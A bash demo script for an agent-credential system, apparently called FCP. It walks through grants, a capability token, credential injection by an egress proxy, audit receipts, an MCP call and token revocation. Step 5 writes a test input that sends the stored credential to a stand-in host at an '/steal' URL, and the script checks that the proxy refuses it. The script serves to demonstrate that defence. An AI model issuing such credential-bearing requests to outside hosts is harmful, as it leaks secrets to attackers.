#!/usr/bin/env bash
# demo-connectors.sh - an agent's call through FCP end to end, narrated.
#
#   fcp init -> a local HTTPS server (throwaway certificate) that records the
#   Authorization header it gets -> a credential fcpd holds ([[credential]],
#   secret file 0600) -> start fcpd -> install the http connector at runtime
#   (fcp connector install, publisher-signed) -> an owner grant and a
#   capability token for http.request limited to localhost:PORT -> fcp invoke
#   (output, OperationReceipt, audit chain verified, the server saw the
#   injected credential; the connector never did) -> the same call as an MCP
#   client makes it (fcp mcp) -> a call outside the grant is refused by the
#   egress proxy; fcp simulate -> fcp revoke the token -> the next call is
#   denied with a DecisionReceipt -> stop.
#
# Run it as make demo-connectors (it works from the repository root, where
# it changes to; FCP_BUILD relative to it).  Temp dirs, free
# loopback ports, nothing left running (trap, also on failure or Ctrl-C).
# Needs python3 and openssl.  FCP_BUILD (default build) is where fcp, fcpd,
# connector-http and libfcp.a are; NO_COLOR=1 (or a non-terminal stdout)
# turns colours off; DEMO_KEEP=DIR copies FCP_HOME, the data dir, the
# server's request log and the throwaway secret there at the end (for
# tests/e2e/demo_connectors.sh); DEMO_TIMEOUT (default 15) is how many
# seconds any single wait may take; DEMO_NO_CA=1 leaves FCPD_EGRESS_CA_FILE
# unset (the call then fails certificate verification, FCP-4336).  The owner's grant and the agent's token
# are made by scripts/demo-connectors-mint.c (built here against libfcp.a):
# `fcp token mint` does not yet write grant objects or set network
# constraints, aud_binary, holder_node and the revocation checkpoint that a
# Risky operation's token needs.
set -u
cd "$(dirname "$0")/.." || exit 1
B=${FCP_BUILD:-${BUILD:-build}}
FCP=$B/fcp
FCPD=$B/fcpd
WAIT=${DEMO_TIMEOUT:-15}
T=$(mktemp -d /tmp/fcp-demo-conn.XXXXXX)
chmod 755 "$T"          # the sandboxed connector (uid 65534 under root) must reach its state dir
H=$T/home
D=$T/data
export FCP_HOME=$H
T0=$(date +%s%N)
SRV_PID=""

cleanup() {
    trap - EXIT INT TERM
    if [ -f "$H/fcpd.pid" ]; then
        p=$(cat "$H/fcpd.pid" 2>/dev/null)
        if [ -n "$p" ] && kill -TERM "$p" 2>/dev/null; then
            # fcpd stops its connectors on SIGTERM; give it 3 s, then KILL
            for _ in $(seq 60); do kill -0 "$p" 2>/dev/null || break; sleep 0.05; done
            kill -KILL "$p" 2>/dev/null
        fi
    fi
    [ -n "${CONN_PID:-}" ] && kill -KILL -- "-$CONN_PID" 2>/dev/null
    if [ -n "$SRV_PID" ]; then kill "$SRV_PID" 2>/dev/null; wait "$SRV_PID" 2>/dev/null; fi
    if [ -n "${DEMO_KEEP:-}" ]; then
        mkdir -p "$DEMO_KEEP" && cp -a "$H" "$D" "$T/requests.log" "$T/api.token" "$DEMO_KEEP/" 2>/dev/null
    fi
    rm -rf "$T"
}
trap cleanup EXIT
trap 'echo; echo "demo: interrupted" >&2; exit 130' INT
trap 'exit 143' TERM

if [ -t 1 ] && [ -z "${NO_COLOR:-}" ]; then
    BOLD=$'\033[1m'; DIM=$'\033[2m'; GREEN=$'\033[32m'; RED=$'\033[31m'; OFF=$'\033[0m'
else
    BOLD=""; DIM=""; GREEN=""; RED=""; OFF=""
fi
ts() { local n; n=$(date +%s%N); printf '%d.%01d s' $(((n - T0) / 1000000000)) $(((n - T0) / 100000000 % 10)); }
say() { printf '\n%s[%s] %s%s\n' "$BOLD" "$(ts)" "$*" "$OFF"; }
note() { printf '    %s%s%s\n' "$DIM" "$*" "$OFF"; }
good() { printf '    %s%s%s\n' "$GREEN" "$*" "$OFF"; }
nogo() { printf '    %s%s%s\n' "$RED" "$*" "$OFF"; }
ind() { sed 's/^/    /'; }
die() { printf '\n%sdemo: FAILED: %s%s\n' "$RED" "$*" "$OFF" >&2; exit 1; }
# poll CMD until it succeeds, at most $WAIT seconds; WHAT names it in the error
wait_for() {
    local what=$1 end=$(($(date +%s) + WAIT))
    shift
    until "$@" >/dev/null 2>&1; do
        [ "$(date +%s)" -lt $end ] || die "timed out after ${WAIT} s waiting for $what"
        sleep 0.05
    done
}
jget() { python3 -c "import json,sys; d=json.load(sys.stdin); print(eval(sys.argv[1]))" "$1"; }
free_port() { python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_'"$1"'); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])'; }
fpr() { printf '%s' "$1" | sha256sum | cut -c1-16; }

for x in "$FCP" "$FCPD" "$B/connector-http" "$B/libfcp.a"; do
    [ -e "$x" ] || die "build $x first (make)"
done
command -v python3 >/dev/null || die "needs python3"
command -v openssl >/dev/null || die "needs openssl"
python3 -c "import ssl, http.server" 2>/dev/null || die "needs python3 with ssl"
# run copies: a rebuild of $B while the demo runs cannot mix versions
mkdir -p "$T/bin" && cp "$FCP" "$FCPD" "$B/connector-http" "$T/bin/" || die "copying the binaries"
FCP=$T/bin/fcp
FCPD=$T/bin/fcpd
CONNECTOR=$T/bin/connector-http

# the owner's grant and token minting (what `fcp token mint` does not do yet:
# grant objects, network constraints, aud_binary, holder, checkpoint)
LIBS="$(sed -n 's/^LDLIBS  *:= *//p' Makefile | sed 's/\\$//') $(sed -n '/^LDLIBS  *:=.*\\$/{n;p}' Makefile)"
SAN=""
case "$B" in *asan*) SAN="-fsanitize=address,undefined -fno-omit-frame-pointer" ;; esac
# shellcheck disable=SC2086
${CC:-cc} -std=c11 -D_GNU_SOURCE -O1 $SAN -Iinclude -o "$T/mint" scripts/demo-connectors-mint.c "$B/libfcp.a" $LIBS \
    2>"$T/cc.log" || { cat "$T/cc.log" >&2; die "building scripts/demo-connectors-mint.c"; }
MINT=$T/mint

# events.py FCP CHAIN last|all KEY...: split a zone's audit chain (canonical
# CBOR AuditEvents, concatenated) and print "key value  key value" per event
# from `fcp cbor diag` (byte strings as hex); dr.py does the same for one
# item given in hex on stdin
cat >"$T/events.py" <<'EOF'
import json, re, subprocess, sys
fcp, path, which, keys = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4:]
b = open(path, "rb").read() if path != "-" else bytes.fromhex(sys.stdin.read().strip())
def skip(i):
    ib = b[i]; mt, ai = ib >> 5, ib & 31; i += 1
    if ai < 24: v = ai
    elif ai in (24, 25, 26, 27):
        n = 1 << (ai - 24); v = int.from_bytes(b[i:i + n], "big"); i += n
    else: raise SystemExit("indefinite length in an audit chain")
    if mt in (2, 3): return i + v
    if mt == 4:
        for _ in range(v): i = skip(i)
    elif mt == 5:
        for _ in range(2 * v): i = skip(i)
    elif mt == 6: i = skip(i)
    return i
items, i = [], 0
while i < len(b):
    j = skip(i); items.append(b[i:j]); i = j
for it in (items[-1:] if which == "last" else items):
    t = subprocess.run([fcp, "cbor", "diag", "-"], input=it, capture_output=True, check=True).stdout.decode()
    d = json.loads(re.sub(r"h'([0-9a-f]*)'", r'"\1"', t.split("\ncanonical:")[0]))
    print("  ".join("%s %s" % (k, d[k]) for k in keys if k in d))
EOF
events() { python3 "$T/events.py" "$FCP" "$D/audit/z_private.cbor" "$@"; }
# JSON on stdin -> the Python expressions over d, tab-separated
jtab() { python3 -c "import json,sys; d=json.load(sys.stdin); print('\t'.join(str(eval(e)) for e in sys.argv[1:]))" "$@"; }

# ----------------------------------------------------------------------- 1
say "1. fcp init: an FCP home (owner, node keys, zone keys) in $T; a local HTTPS API"
UP=$(free_port DGRAM)
"$FCP" init --home "$H" --node-id demo-node --listen 127.0.0.1:$UP --data-dir "$D" | ind ||
    die "fcp init"
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 1 \
    -subj "/CN=localhost" -addext "subjectAltName=DNS:localhost" \
    -keyout "$T/server.key" -out "$T/server.crt" >/dev/null 2>&1 || die "openssl req"
cat >"$T/server.py" <<'EOF'
# The demo's API: HTTPS on 127.0.0.1 (free port), answers JSON, and logs each
# request as "METHOD PATH auth=<sha256 of the Authorization header, 16 hex>"
# (never the header itself).  argv: key cert portfile logfile
import hashlib, http.server, json, ssl, sys
key, cert, portfile, logfile = sys.argv[1:5]
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        a = self.headers.get("Authorization")
        fp = hashlib.sha256(a.encode()).hexdigest()[:16] if a else "none"
        with open(logfile, "a") as f:
            f.write("%s %s auth=%s\n" % (self.command, self.path, fp))
        body = json.dumps({"service": "demo-api", "path": self.path,
                           "authorized": a is not None, "weather": "sunny, 21 C"}).encode()
        self.send_response(200 if a else 401)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *args):
        pass
s = http.server.HTTPServer(("127.0.0.1", 0), H)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(cert, key)
s.socket = ctx.wrap_socket(s.socket, server_side=True)
open(portfile + ".tmp", "w").write(str(s.server_address[1]))
import os; os.rename(portfile + ".tmp", portfile)
s.serve_forever()
EOF
: >"$T/requests.log"
python3 "$T/server.py" "$T/server.key" "$T/server.crt" "$T/port" "$T/requests.log" 2>"$T/server.err" &
SRV_PID=$!
wait_for "the HTTPS server to listen" test -s "$T/port"
PORT=$(cat "$T/port")
wait_for "the HTTPS server to answer" python3 -c "
import socket,ssl,sys
c=ssl.create_default_context(cafile='$T/server.crt')
with socket.create_connection(('127.0.0.1',$PORT),timeout=2) as s:
    with c.wrap_socket(s,server_hostname='localhost'): pass"
note "HTTPS API at https://localhost:$PORT (certificate for 'localhost', made with openssl just now)"

# ----------------------------------------------------------------------- 2
say "2. a credential fcpd keeps: the secret is a 0600 file, the connector only knows its id"
SECRET="demo-$(openssl rand -hex 16)"
printf '%s\n' "$SECRET" >"$T/api.token"
chmod 600 "$T/api.token"
cat >>"$H/fcpd.toml" <<EOF

[[credential]]
id = "cred:demo.api"
secret_file = "$T/api.token"
apply = "header"
name = "authorization"
prefix = "Bearer "
host_allow = ["localhost"]
EOF
sed -n '/^\[\[credential\]\]/,$p' "$H/fcpd.toml" | ind
note "secret fingerprint (sha256 of 'Bearer <secret>', 16 hex): $(fpr "Bearer $SECRET")"
# fcpd trusts the demo certificate for egress (a private CA; docs/connectors.md)
[ -n "${DEMO_NO_CA:-}" ] || export FCPD_EGRESS_CA_FILE=$T/server.crt
"$FCPD" --daemon || die "fcpd did not start"
wait_for "fcpd to answer on its admin socket" "$FCP" status
note "fcpd is running (pid $(cat "$H/fcpd.pid")); FCPD_EGRESS_CA_FILE=${FCPD_EGRESS_CA_FILE:-(unset)}"

say "   install the http connector at runtime: fcp connector install (publisher-signed)"
# the reference connectors' TEST publisher key (seed a0 a1 .. bf); a real
# publisher ships this signature with its connector
python3 -c "print(''.join('%02x'%(0xa0+i) for i in range(32)))" >"$T/publisher.seed"
SIG=$("$FCP" connector sign --manifest connectors/http/manifest.toml --binary "$CONNECTOR" \
    --key "$T/publisher.seed") || die "fcp connector sign"
note "publisher signature ${SIG:0:32}..."
"$FCP" connector install --manifest connectors/http/manifest.toml --binary "$CONNECTOR" \
    --signature "$SIG" | ind || die "fcp connector install"
conn() { "$FCP" connector show fcp.http --json 2>/dev/null | jget "d['connectors'][0]$1"; }
is_active() { [ "$(conn "['state']")" = active ]; }
wait_for "fcp.http to become active" is_active
"$FCP" connector list | ind
BIN=$(conn "['runtime']['binary_id']")
CONN_PID=$(conn "['runtime']['pid']")
note "running sandboxed (pid $CONN_PID) in an empty network namespace: it cannot open a socket"
note "binary id $BIN"

# ----------------------------------------------------------------------- 3
say "3. the owner grants http.request on localhost:$PORT; a token for the agent"
mkdir -p "$H/grants"
"$MINT" grant "$H" z:private http.request localhost "$PORT" cred:demo.api "$H/grants/http.request.cap" ||
    die "grant"
note "grant: owner-signed CapabilityObject $H/grants/http.request.cap"
note "       host_allow [localhost], port_allow [$PORT], credential_allow [cred:demo.api], 24 h"
REV=$("$FCP" revoke --status --json) || die "fcp revoke --status"
IFS=$'\t' read -r CHK_SEQ CHK_ID < <(echo "$REV" | jtab "d.get('seq') or 0" "d.get('head') or '0'*64")
"$MINT" token "$H" z:private fcp.http http.request http_request "$H/grants/http.request.cap" "$T/agent.tok" \
    "$BIN" demo-node --ttl 600 --chk-seq "$CHK_SEQ" --chk-id "$CHK_ID" || die "token"
"$FCP" token inspect "$T/agent.tok" | ind || die "fcp token inspect"
TOKEN_ID=$("$FCP" token inspect "$T/agent.tok" --json | jget "d['token_id']")

# ----------------------------------------------------------------------- 4
say "4. fcp invoke fcp.http http_request: the agent's call"
cat >"$T/call.json" <<EOF
{"method":"GET","url":"https://localhost:$PORT/v1/weather?city=Lisbon","credential_id":"cred:demo.api"}
EOF
note "input: $(cat "$T/call.json")"
OUT=$("$FCP" invoke fcp.http http_request --input "$T/call.json" --token "$T/agent.tok" --json) ||
    { echo "$OUT" | ind; die "fcp invoke"; }
IFS=$'\t' read -r OUTPUT RECEIPT < <(echo "$OUT" | jtab "d['output']" "d['receipt_id']")
echo "output  $OUTPUT" | ind
good "receipt $RECEIPT"
note "(a signed OperationReceipt, stored as data/receipts/<id>.cbor)"
"$FCP" audit verify --zone z:private | ind || die "fcp audit verify"
LAST=$(events last seq event_type connector_id operation actor signer result_object_id) ||
    die "reading the audit chain"
note "the last audit event (a signed AuditEvent):"
echo "${LAST%  result_object_id *}" | ind
[ "${LAST##*result_object_id }" = "$RECEIPT" ] || die "the last audit event does not name the receipt"
good "its result_object_id is the receipt id ${RECEIPT:0:16}..."
SEEN=$(tail -n 1 "$T/requests.log")
note "the server's log: $SEEN"
if [ "${SEEN##*auth=}" = "$(fpr "Bearer $SECRET")" ]; then
    good "the server got 'Authorization: Bearer <secret>' (fingerprint $(fpr "Bearer $SECRET")), injected by fcpd's egress proxy"
else
    die "the server did not get the credential (log: $SEEN)"
fi
LEAK=$(grep -rlF -- "$SECRET" "$D" "$H" 2>/dev/null | grep -v "$T/api.token" || true)
[ -z "$LEAK" ] || die "the secret appears in $LEAK"
good "the secret is in no log, receipt, audit event or connector state (home and data dir searched)"

say "   the same call as an agent makes it: MCP over stdio (fcp mcp)"
note "an MCP client (agent host) spawns: fcp mcp --token agent.tok  (FCP_HOME=$H)"
ARGS=$(python3 -c "import json,sys; print(json.dumps(json.load(open(sys.argv[1]))))" "$T/call.json")
MCP=$(printf '%s\n' \
    '{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"demo-agent","version":"1"}}}' \
    '{"jsonrpc":"2.0","method":"notifications/initialized"}' \
    '{"jsonrpc":"2.0","id":2,"method":"tools/list"}' \
    "{\"jsonrpc\":\"2.0\",\"id\":3,\"method\":\"tools/call\",\"params\":{\"name\":\"fcp.http.http_request\",\"arguments\":$ARGS}}" |
    timeout "$WAIT" "$FCP" mcp --token "$T/agent.tok") || die "fcp mcp"
echo "$MCP" | python3 -c "
import json,sys
for l in sys.stdin:
    m=json.loads(l)
    if m.get('id')==2: print('tools/list  ->', ', '.join(t['name'] for t in m['result']['tools']))
    if m.get('id')==3:
        r=m['result']; o=r.get('structuredContent') or {}
        print('tools/call  -> isError %s, status %s, receipt %s' % (str(r.get('isError', False)).lower(),
              o.get('status'), r.get('_meta', {}).get('fcp/receipt_id', '?')))
" | ind
note "server log: $(tail -n 1 "$T/requests.log")"

# ----------------------------------------------------------------------- 5
say "5. a call outside the grant: the egress proxy refuses it (and fcp simulate)"
echo '{"method":"GET","url":"https://api.example.com/steal","credential_id":"cred:demo.api"}' >"$T/evil.json"
note "input: $(cat "$T/evil.json")"
N0=$(wc -l <"$T/requests.log")
OUT=$("$FCP" invoke fcp.http http_request --input "$T/evil.json" --token "$T/agent.tok" --json)
[ $? -ne 0 ] || die "the call outside the grant was allowed"
IFS=$'\t' read -r EGRESS_CODE ERR < <(echo "$OUT" | jtab "d['code']" "d.get('error','')")
nogo "refused: $EGRESS_CODE $ERR"
note "(the token allows the operation, so the call ran; the proxy stopped the request before DNS)"
OUT=$("$FCP" simulate fcp.http http_request --input "$T/call.json" --token "$T/agent.tok") ||
    die "fcp simulate"
echo "fcp simulate (the allowed call): $OUT" | ind
[ "$(wc -l <"$T/requests.log")" -eq "$N0" ] || die "the server saw a request it should not have"
note "the server saw no request from either"

# ----------------------------------------------------------------------- 6
say "6. fcp revoke the agent's token; its next call is denied"
"$FCP" revoke "$T/agent.tok" --reason "demo: the agent's job is done" | ind || die "fcp revoke"
OUT=$("$FCP" invoke fcp.http http_request --input "$T/call.json" --token "$T/agent.tok" --json)
[ $? -ne 0 ] || die "the revoked token was accepted"
IFS=$'\t' read -r REVOKED_CODE ERR DR < <(echo "$OUT" | jtab "d['code']" "d.get('error','')" "d.get('decision_receipt','')")
nogo "denied: $REVOKED_CODE $ERR"
[ -n "$DR" ] || die "no DecisionReceipt"
note "DecisionReceipt ($((${#DR} / 2)) bytes, signed by demo-node): ${DR:0:64}..."
python3 "$T/events.py" "$FCP" - all decision reason_code explanation decided_by <<<"$DR" | ind
"$FCP" audit verify --zone z:private | ind || die "fcp audit verify"
note "the zone's audit chain now:"
events all seq event_type operation actor >"$T/events" || die "reading the audit chain"
ind <"$T/events"

# ----------------------------------------------------------------------- 7
say "7. stop: fcpd and its connector, the HTTPS server"
"$FCP" node stop | ind
wait_for "fcpd to exit" test ! -f "$H/fcpd.pid"
kill -0 -- "-$CONN_PID" 2>/dev/null && die "the connector outlived fcpd"
kill "$SRV_PID" 2>/dev/null
wait "$SRV_PID" 2>/dev/null
SRV_PID=""
note "nothing left running"
echo "demo summary: receipt=$RECEIPT token=$TOKEN_ID egress_denied=$EGRESS_CODE revoked=$REVOKED_CODE"
say "done in $(ts)"
